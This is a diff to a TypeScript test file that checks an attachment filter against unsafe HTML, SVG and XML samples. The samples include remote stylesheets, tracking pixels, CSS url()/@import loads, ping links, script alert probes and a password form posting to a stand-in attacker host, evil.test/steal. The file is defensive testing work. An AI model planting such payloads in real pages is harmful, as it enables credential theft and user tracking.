@@ -13,6 +13,24 @@ const verdict = (name: string, text: string) => attachmentVerdict(name, bytes(te
 
 const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
 const UNSAFE: Record<string, [string, string]> = {
+  // No script, but other hosts loaded (or posted to) from the site's origin, where a host sends no policy header.
+  "html remote stylesheet": ["promo.shtml", '<!doctype html><link rel=stylesheet href=https://evil.test/attach.css><p>Offer</p>'],
+  "html remote image": ["promo.shtml", '<!doctype html><p>Offer <img src="//evil.test/pixel.png" alt=""></p>'],
+  "html remote srcset": ["promo.html", '<!doctype html><img src="a.png" srcset="a.png 1x, https://evil.test/b.png 2x" alt="">'],
+  "html style background": ["promo.shtml", "<!doctype html><style>body{background:url(https://evil.test/bg.png)}</style><p>Offer</p>"],
+  "html style attribute url": ["promo.html", '<!doctype html><p style="background: URL( \'//evil.test/bg.png\' )">Offer</p>'],
+  "html style @import": ["promo.html", '<!doctype html><style>@import "theme.css";</style><p>Offer</p>'],
+  "html form": ["promo.shtml", '<!doctype html><form action="https://evil.test/steal" method="post"><input type="password" name="p"></form>'],
+  "html form to the site itself": ["promo.html", '<!doctype html><form><input type="password" name="p"></form>'],
+  "html ping": ["promo.html", '<!doctype html><a href="/x" ping="https://evil.test/track">x</a>'],
+  "xhtml remote stylesheet": ["promo.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="https://evil.test/x.css"/></head><body><p>Offer</p></body></html>'],
+  "svg remote image": ["d.svg", `<svg ${SVG}><image href="https://evil.test/svg-image.png" width="1" height="1"/></svg>`],
+  "svg remote xlink image": ["d.svg", `<svg ${SVG}><image xlink:href="https:evil.test/svg-image.png" width="1" height="1"/></svg>`],
+  "svg remote use": ["d.svg", `<svg ${SVG}><use href="https://evil.test/sprite.svg#a"/></svg>`],
+  "svg style @import": ["d.svg", `<svg ${SVG}><style>@import url(https://evil.test/svg-import.css);</style></svg>`],
+  "svg style with an escaped url": ["d.svg", `<svg ${SVG}><style>rect { fill: u\\rl(https://evil.test/p.png) }</style></svg>`],
+  "xml xhtml image": ["data.xml", '<data xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="https://evil.test/xml-img.png"/></data>'],
+  "xml xhtml form": ["data.xml", '<data xmlns:h="http://www.w3.org/1999/xhtml"><h:form action="/x"><h:input name="p"/></h:form></data>'],
   "svg script": ["a.svg", `<svg ${SVG}><script>alert(1)</script></svg>`],
   "svg script with a prefix": ["a.svg", `<svg ${SVG} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>`],
   "svg CDATA script": ["a.svg", `<svg ${SVG}><script><![CDATA[alert(1)]]></script></svg>`],
@@ -114,6 +132,10 @@ describe("attachmentVerdict", () => {
     expect(attachmentVerdict("photo.raw1", new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, 0x3c])).safe).toBe(true);
     expect(verdict("diagram.svg.png", `<svg ${SVG} onload="alert(1)"/>`).safe).toBe(true);
     expect(verdict("page.html.txt", "<script>alert(1)</script>").safe).toBe(true);
+    // Links a reader follows, local references and inline raster images stay. (Text that reads like a
+    // remote url(...) anywhere in the file is refused, as script-like text is: a reading may take it as style.)
+    expect(verdict("a.svg", `<svg ${SVG}><a xlink:href="https://acme.test/x"><use href="#shape"/></a><image href="data:image/png;base64,iVBORw0KGgo="/><style>rect { fill: url(#g) }</style></svg>`).safe).toBe(true);
+    expect(verdict("a.html", '<!doctype html><link rel="stylesheet" href="style.css"><p style="background:url(bg.png)">Hi <a href="https://acme.test">link</a> <img src="a.png" alt="mailto:x@y.z"></p>').safe).toBe(true);
   });
 });
 
